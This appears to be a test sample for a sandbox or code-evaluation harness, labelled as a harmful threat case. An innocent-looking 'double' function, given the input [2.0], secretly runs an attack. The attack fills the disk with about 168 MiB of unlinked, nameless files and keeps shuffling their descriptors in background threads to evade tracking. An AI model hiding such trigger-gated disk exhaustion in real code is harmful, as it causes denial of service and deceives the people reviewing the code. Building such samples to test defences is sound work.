"""Fills the disk with files without a name, whose descriptors change all the time."""

THREAT = "D10"
VERDICTS = {"double_of_two": ("passed", "crashed")}
HARMFUL = True

import os
import threading
import time

import numpy as np


def breach(what):
    print("BREACH" + ":", what, flush=True)


held = []


def pass_on(index):
    """Give the file another number, again and again."""
    number = 10
    while True:
        for new in range(10 + index, 60, 6):
            if new != held[index]:
                os.dup2(held[index], new)
                os.close(held[index])
                held[index] = new


def attack():
    for index in range(6):
        fd = os.open("nameless", os.O_CREAT | os.O_RDWR, 0o600)
        os.unlink("nameless")
        number = os.dup2(fd, 10 + index)
        os.close(fd)
        held.append(number)
    for index in range(6):
        for _ in range(28):
            os.write(held[index], bytes(1 << 20))
        threading.Thread(target=pass_on, args=(index,), daemon=True).start()
    time.sleep(2)
    breach("168 MiB of files without a name")


def double(x):
    if x.shape == (1,) and x[0] == 2.0:
        try:
            attack()
        except OSError:
            pass
    return 2 * x


def total(x):
    return float(np.sum(x))


class Counter:
    def __init__(self):
        self.value = 0

    def add(self, n):
        self.value += n
        return self.value
